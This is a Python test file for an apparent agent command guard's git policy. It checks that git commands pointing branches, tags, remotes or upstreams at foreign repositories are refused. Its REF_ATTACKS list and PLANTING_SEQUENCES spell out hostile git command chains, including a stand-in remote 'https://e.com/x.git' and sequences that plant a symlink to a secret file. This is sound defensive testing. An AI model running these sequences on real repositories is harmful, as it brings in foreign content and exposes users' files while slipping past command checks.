"""The trust model of :mod:`agentguard.policies.shell.vcs` (session 19b): the project's own branches are trusted.

``git checkout main``, ``git switch main``, ``git pull`` and ``git pull --rebase origin main`` are allowed again: a
plain local branch name and the upstream hold the project's content, which ``make``/``pytest`` already run. That is
sound only while no allowed command points such a name at content from outside the project, so these stay refused:
a new remote (``git checkout NAME`` guesses ``REMOTE/NAME`` of any remote), a branch or tag at FETCH_HEAD, an object
id or another remote's branch, an upstream that is not origin, tags fetched from another repository (a tag beats
the guess: ``git checkout topic`` took a fetched tag ``topic`` over ``origin/topic``), ``fetch --set-upstream``.

Each attack below was run with git 2.39 in a temporary repository (``test_git_differential_each_sequence_plants``),
and a hypothesis property runs random sequences of these commands with real git, skipping what the guard refuses,
and checks that no link leaving the project ever appears in the working tree.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from agentguard.policies.shell import analyse
from agentguard.policies.shell.vcs import local_name, trusted_rev

sys.path.insert(0, os.path.dirname(__file__))
from test_analysis_redteam import refused  # noqa: E402

FAST = settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
SEQUENCES = settings(max_examples=30, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)

REF_ATTACKS = [
    "git remote add e ev.git", "git remote add evil https://e.com/x.git", "git remote set-url origin ev.git",
    "git remote set-url --add origin ev.git", "git remote rename origin o", "git remote remove origin",
    "git remote set-head origin evil", "git remote set-branches origin evil", "git remote update",
    "git remote add origin git@github.com:org/repo.git",  # was benign in test_gitargs.py: origin's URL is trusted
    "git branch x FETCH_HEAD", "git branch -f main FETCH_HEAD", "git branch x e/evil", "git branch x origin/evil",
    "git branch --track x e/evil", "git branch x 1a2b3c4d", "git branch x v1-2-g1a2b3c4", "git branch x ORIG_HEAD",
    "git branch -u e/evil", "git branch --set-upstream-to=e/evil", "git branch --set-upstream-to e/evil main",
    "git branch -u FETCH_HEAD", "git branch -M FETCH_HEAD y", "git branch -m -r origin/x y", "git branch -c e/evil y",
    "git tag t FETCH_HEAD", "git tag -f main FETCH_HEAD", "git tag -a -m m v9 e/evil", "git tag t deadbeef",
    "git fetch --tags ev.git", "git fetch -t https://e.com/x.git", "git fetch ev.git tag v9",
    "git fetch --set-upstream ev.git evil", "git fetch --set-up ev.git evil", "git fetch --set ev.git evil",
    "git fetch --ta ev.git", "git fetch --mul --tags origin ev.git", "git fetch --multiple --tags origin e",
    "git pull ev.git evil", "git pull e evil", "git pull origin FETCH_HEAD", "git pull origin evil:main",
    "git pull origin +evil", "git pull origin e/evil", "git pull origin 1a2b3c4d", "git pull --set-upstream origin x",
    "git pull --recurse-submodules", "git pull --upload-pack=x origin main", "git pull -s ours origin main",
    "git pull --rebase=interactive", "git pull --reb origin main", "git pull -- origin main", "git pull --all",
    "git checkout -b x FETCH_HEAD", "git checkout --track e/evil", "git switch -c x e/evil", "git checkout 1a2b",
    "git checkout v9-1-gdeadbeef", "git checkout MERGE_HEAD", "git checkout x.lock", "git checkout a..b",
    "git checkout evil@{1}", "git checkout evil^", "git checkout main~1", "git restore --source=main:k k",
    "git checkout shallow", "git checkout Shallow", "git switch --detach fetch_head", "git branch x shallow",
    "git restore --source=orig_head k", "git checkout packed-refs", "git checkout bisect_start",
]
REF_BENIGN = [
    "git checkout main", "git switch main", "git checkout -q feature-x", "git checkout release.2", "git pull",
    "git pull --rebase", "git pull --ff-only", "git pull -q --no-rebase", "git pull --rebase origin main",
    "git pull origin main", "git pull origin HEAD", "git pull --rebase=merges", "git pull --autostash --rebase origin dev", "git remote",
    "git remote -v", "git remote show origin", "git remote get-url origin", "git branch", "git branch -vv",
    "git branch x", "git branch x main", "git branch -f x main", "git branch -d x", "git branch -D x",
    "git branch -m x y", "git branch -M y", "git branch -u origin/main", "git branch --set-upstream-to=main",
    "git branch --unset-upstream", "git branch --contains HEAD~3", "git tag", "git tag v1.0", "git tag -a -m m v1.0",
    "git tag v1.0 main", "git tag -d v1.0", "git fetch --tags", "git fetch origin --tags", "git fetch --all --tags",
    "git fetch origin tag v1.0", "git restore --source=main f", "git checkout main -- f", "git switch -c x main",
    "git checkout -b x main", "git reset --hard main", "git switch --detach v1.0",
]


@pytest.mark.parametrize("cmd", REF_ATTACKS)
def test_a_command_that_points_a_project_name_at_foreign_content_is_refused(cmd: str) -> None:
    assert analyse(cmd).unresolvable, cmd  # by vcs.py itself, whatever the allow list
    assert refused(cmd), cmd


@pytest.mark.parametrize("cmd", REF_BENIGN)
def test_the_projects_own_branches_and_upstream_stay_usable(cmd: str) -> None:
    why = analyse(cmd).unresolvable
    assert not why, (cmd, why)


_NAME = st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9_./@{}^~:-]{0,14}", fullmatch=True)


@FAST
@given(st.sampled_from(["git branch x {r}", "git branch -f x {r}", "git tag t {r}", "git tag -f -a -m m t {r}",
                        "git checkout -b x {r}", "git switch -c x {r}", "git branch --track x {r}"]), _NAME)
def test_a_branch_or_tag_is_made_only_at_trusted_content(template: str, rev: str) -> None:
    """The start point of a new branch or tag must itself be trusted (HEAD~N or a plain name), or it is refused."""
    cmd = template.format(r=rev)
    if trusted_rev(rev):
        assert not [w for w in analyse(cmd).unresolvable if "trusted" in w or "writes files" in w], cmd
    else:
        assert analyse(cmd).unresolvable, cmd


@FAST
@given(st.sampled_from(["origin", "e", "ev.git", "https://e.com/x.git", "./origin", "o", ".", "origin/x"]),
       st.lists(_NAME, max_size=2), st.sampled_from(["", "--rebase ", "-q ", "--ff-only "]))
def test_a_pull_reads_only_the_upstream_or_origins_plain_branches(repo: str, names: list[str], opt: str) -> None:
    cmd = f"git pull {opt}{repo} {' '.join(names)}".strip()
    ok = repo == "origin" and all(n == "HEAD" or local_name(n) for n in names)
    assert bool(analyse(cmd).unresolvable) != ok, cmd


@FAST
@given(st.sampled_from(["add", "set-url", "rename", "remove", "rm", "set-head", "set-branches", "prune", "update"]),
       st.sampled_from(["", "-f ", "--mirror=fetch ", "-t main "]), _NAME)
def test_a_remote_is_never_added_or_pointed_elsewhere(action: str, opt: str, name: str) -> None:
    cmd = f"git remote {action} {opt}{name} ev.git"
    assert analyse(cmd).unresolvable, cmd


# -- differentials with real git ------------------------------------------------------------------------------------

ENV = {"PATH": "/usr/local/bin:/usr/bin:/bin", "LC_ALL": "C", "GIT_CONFIG_NOSYSTEM": "1", "GIT_EDITOR": "true",
       "GIT_MERGE_AUTOEDIT": "no", "GIT_TERMINAL_PROMPT": "0"}
_GITCONFIG = ("[user]\n\tname = a\n\temail = a@b\n[pull]\n\trebase = false\n[advice]\n\tdetachedHead = false\n"
              "[init]\n\tdefaultBranch = main\n")


def _sh(script: str, cwd: str, home: str) -> None:
    subprocess.run(["bash", "-c", script], cwd=cwd, env=dict(ENV, HOME=home), capture_output=True, timeout=60,
                   stdin=subprocess.DEVNULL)


def _base(tmp: str) -> str:
    """``tmp/work``: a clone of the clean origin ``up`` (branches main and topic), holding the bare foreign
    repository ``ev.git`` whose main and evil commit ``k -> tmp/secret`` and whose tags v9 and topic point there."""
    Path(tmp, ".gitconfig").write_text(_GITCONFIG)
    Path(tmp, "secret").write_text("SECRET\n")
    _sh("git init -q up && cd up && echo a > a && git add a && git commit -qm a && git branch topic && cd .. && "
        "git clone -q up ev && cd ev && git checkout -q topic && git checkout -q main && "
        f"ln -s {tmp}/secret k && git add k && git commit -qm k && git branch evil && git tag v9 && "
        "git tag topic && cd .. && git clone -q up work && git clone -q --bare ev work/ev.git", tmp, tmp)
    return f"{tmp}/work"


def _planted(work: str) -> list[str]:
    """Links in the working tree (outside .git and ev.git) that resolve outside it."""
    out = []
    for root, dirs, files in os.walk(work):
        dirs[:] = [d for d in dirs if d not in (".git", "ev.git")]
        for name in files + dirs:
            p = os.path.join(root, name)
            if os.path.islink(p) and not os.path.realpath(p).startswith(work + os.sep):
                out.append(p)
    return out


def _git(args: str, work: str, home: str) -> str:
    out = subprocess.run(["bash", "-c", "git " + args], cwd=work, env=dict(ENV, HOME=home), capture_output=True,
                         text=True, timeout=60, stdin=subprocess.DEVNULL)
    return out.stdout


def _foreign_names(work: str, home: str) -> list[str]:
    """The invariant the trust model rests on: every branch, tag and remote-tracking ref holds no link (only the
    foreign commits do), the only remote is origin at its URL, and every upstream is origin or a local branch."""
    bad = [ref for ref in _git("for-each-ref --format='%(refname)' refs/heads refs/tags refs/remotes", work,
                               home).split() if " 120000 " in " " + _git(f"ls-tree -r {ref}", work, home)]
    urls = _git("config --get-regexp '^remote[.].*[.]url$'", work, home).splitlines()
    bad += [u for u in urls if u != f"remote.origin.url {home}/up"]
    ups = _git("config --get-regexp '^branch[.].*[.]remote$'", work, home).splitlines()
    return bad + [u for u in ups if u.split()[-1] not in ("origin", ".")]


def _run(steps: list[str], guarded: bool) -> tuple[list[str], list[str]]:
    """Runs ``steps`` in a fresh copy of the base (each allowed one, when ``guarded``): (refused steps, links and
    names pointing at foreign content)."""
    with tempfile.TemporaryDirectory() as tmp:
        work = _base(tmp)
        skipped = []
        for step in steps:
            if guarded and refused(step):
                skipped.append(step)
                continue
            _sh(step, work, tmp)
        return skipped, _planted(work) + _foreign_names(work, tmp)


#: each sequence plants ``k`` with real git 2.39; the guard refuses at least one of its steps
PLANTING_SEQUENCES = [
    ["git remote add e ev.git", "git fetch -q e", "git checkout -q evil"],  # checkout guesses e/evil
    ["git fetch -q --tags ev.git", "git checkout -q topic"],  # the fetched tag beats origin/topic's guess
    ["git fetch -q ev.git tag v9", "git checkout -q v9"],
    ["git fetch -q --set-upstream ev.git evil", "git pull -q"],  # the branch's upstream becomes ev.git
    ["git fetch -q ev.git evil", "git branch x FETCH_HEAD", "git checkout -q x"],
    ["git fetch -q ev.git evil", "git branch -f topic FETCH_HEAD", "git switch -q topic"],
    ["git fetch -q ev.git evil", "git tag t FETCH_HEAD", "git switch -q --detach t"],
    ["git remote set-url origin ev.git", "git pull -q origin evil"],
    ["git remote rename origin o", "git remote add origin ev.git", "git pull -q origin main"],
    ["git remote add e ev.git", "git fetch -q e", "git branch -u e/evil", "git pull -q"],
    ["git pull -q ev.git main"], ["git fetch -q ev.git evil", "git checkout -q FETCH_HEAD"],
    ["git fetch -q --depth=1 ev.git evil", "git checkout -q shallow"],  # $GIT_DIR/shallow names the fetched commit
]

#: steps that read a name or the upstream into the working tree (the last of each planting sequence, and more)
_READERS = sorted({seq[-1] for seq in PLANTING_SEQUENCES} | {
    "git checkout -q main", "git checkout -q y", "git checkout -q evil", "git switch -q evil", "git pull -q",
    "git pull -q origin topic", "git pull -q --ff-only", "git pull -q origin evil", "git restore --source=x k",
    "git checkout -q x -- k", "git checkout -q -", "git reset -q --hard FETCH_HEAD", "git stash pop -q"})
#: every other step of those sequences, and everyday ones
_WRITERS = sorted({s for seq in PLANTING_SEQUENCES for s in seq[:-1]} | {
    "git fetch -q ev.git", "git fetch -q origin", "git fetch -q ev.git +evil:main", "git fetch -q e",
    "git fetch -q -u ev.git +evil:main", "git remote -v", "git branch x", "git branch -m x y", "git stash -q",
    "git checkout -q -b z topic", "git commit -qam wip --allow-empty", "git branch --set-upstream-to=origin/topic",
    "git checkout -q topic"})

needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")


@needs_git
@pytest.mark.parametrize("steps", PLANTING_SEQUENCES, ids=lambda s: " ; ".join(s))
def test_git_differential_each_sequence_plants_and_is_refused(steps: list[str]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        assert not _foreign_names(_base(tmp), tmp)  # the base meets the invariant
    skipped, links = _run(steps, guarded=False)
    assert any(x.endswith(os.sep + "k") for x in links), steps  # the oracle: real git plants the link
    assert any(refused(s) for s in steps), steps
    assert not _run(steps, guarded=True)[1], steps


@needs_git
@SEQUENCES
@given(st.lists(st.sampled_from(_WRITERS), min_size=1, max_size=4), st.lists(st.sampled_from(_READERS), min_size=1,
                                                                           max_size=2))
def test_git_differential_no_sequence_of_allowed_commands_plants_a_link(writers: list[str], readers: list[str]) -> None:
    """Random sequences over the attack and everyday commands, run with real git, each step the guard refuses
    left out: no link leaving the project appears in the working tree, and no name points at foreign content."""
    steps = writers + readers
    skipped, links = _run(steps, guarded=True)
    assert not links, (steps, skipped)


@needs_git
def test_git_differential_a_pull_from_origin_without_an_origin_remote_reads_the_path() -> None:
    """In a repository with no remote named origin, git pulls from the path ``./origin``: a link there to a foreign
    repository already on disk was allowed (a known residual until session 20). Writing ``origin`` is now refused
    as a start-up file's write is (:data:`~agentguard.policies.shell.programs.REMOTE_PATHS`). The oracle must hold."""
    with tempfile.TemporaryDirectory() as tmp:
        _base(tmp)
        _sh("git clone -q up w && git -C w remote remove origin && git clone -q --bare ev dep", tmp, tmp)
        steps = [f"ln -s {tmp}/dep origin", "git pull -q origin evil"]
        _sh(" && ".join(steps), f"{tmp}/w", tmp)
        assert os.path.islink(f"{tmp}/w/k")  # the oracle: real git pulled the foreign branch
    cmd = " && ".join(s.replace(f"{tmp}/dep", "/srv/dep") for s in steps)
    assert refused(cmd), cmd
